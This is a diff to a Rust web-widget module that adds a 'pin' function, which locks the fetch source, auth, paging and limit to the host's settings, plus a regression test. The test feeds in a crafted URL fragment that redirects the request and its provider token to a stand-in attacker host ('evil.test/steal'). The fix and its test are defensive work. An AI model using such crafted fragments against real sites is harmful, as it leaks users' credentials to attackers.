@@ -1,6 +1,10 @@
 //! The `<trail-view>` element's attributes as view state: `source`, `page-size`,
 //! `columns`, `tz` and `redact` are the widget's defaults (as `trailview.json` is a page's),
 //! and `state` is a query string over them, the same one the app keeps in its URL.
+//!
+//! A host that gives `source` decides what is fetched: [`pin`] holds the request's
+//! definition (source, paging, how the token goes, the entry limit, masking) to the
+//! host's, whatever a `state`, the page's fragment or a message says.
 
 use crate::core::query::ViewState;
 use crate::core::query::codec::encode;
@@ -42,6 +46,24 @@ pub fn defaults(attr: impl Fn(&str) -> Option<String>) -> ViewState {
 /// the admin filters, and not removable from inside.
 pub fn pinned_filters(value: &str) -> Vec<(String, String)> {
     ViewState::from_query(value.trim()).filters
+}
+
+/// `view` with what defines its requests taken from the host's defaults `host` when the
+/// host gave a source: the source, paging, auth and limit are the host's, and masking is
+/// the host's plus the view's (it can only grow). A view of a widget without a host
+/// source is returned as it is.
+pub fn pin(view: ViewState, host: &ViewState) -> ViewState {
+    if host.source.is_none() {
+        return view;
+    }
+    ViewState {
+        source: host.source.clone(),
+        paging: host.paging.clone(),
+        auth: host.auth.clone(),
+        limit: host.limit,
+        redact: host.redact.union(&view.redact),
+        ..view
+    }
 }
 
 /// With `url-state="hash"`, a widget keeps its view in the host's address as one
@@ -203,6 +225,32 @@ mod tests {
         // The host's own fragment survives.
         assert_eq!(with_hash_state("top", "org", "q=x"), "top&org=q%3Dx");
         assert_eq!(hash_state("#top", "org"), None);
+    }
+
+    #[test]
+    fn a_hosts_source_and_how_it_is_fetched_are_pinned() {
+        // Regression: a crafted fragment (`url-state="hash"`) set `source` and `auth`, and
+        // the host's provider token went to the attacker's server.
+        let host = defaults(attrs(&[
+            ("source", "https://api.test/audit"),
+            ("redact", "email"),
+        ]));
+        let crafted = ViewState::from_query_over(
+            "source=https%3A%2F%2Fevil.test%2Fsteal&auth=header:X-Leak&paging=next:q&limit=5&redact=&q=ada",
+            &host,
+        );
+        assert_eq!(crafted.source.as_deref(), Some("https://evil.test/steal"));
+        let pinned = pin(crafted, &host);
+        assert_eq!(pinned.source.as_deref(), Some("https://api.test/audit"));
+        assert_eq!(
+            (&pinned.paging, &pinned.auth, pinned.limit),
+            (&host.paging, &host.auth, host.limit)
+        );
+        assert_eq!(pinned.redact.to_param(), "email");
+        assert_eq!(pinned.q, "ada", "the rest of the view is the admin's");
+        // Without a host source the view chooses its log (the Log source field is there).
+        let free = ViewState::from_query("source=https%3A%2F%2Fother.test%2Flog");
+        assert_eq!(pin(free.clone(), &ViewState::default()), free);
     }
 
     #[test]
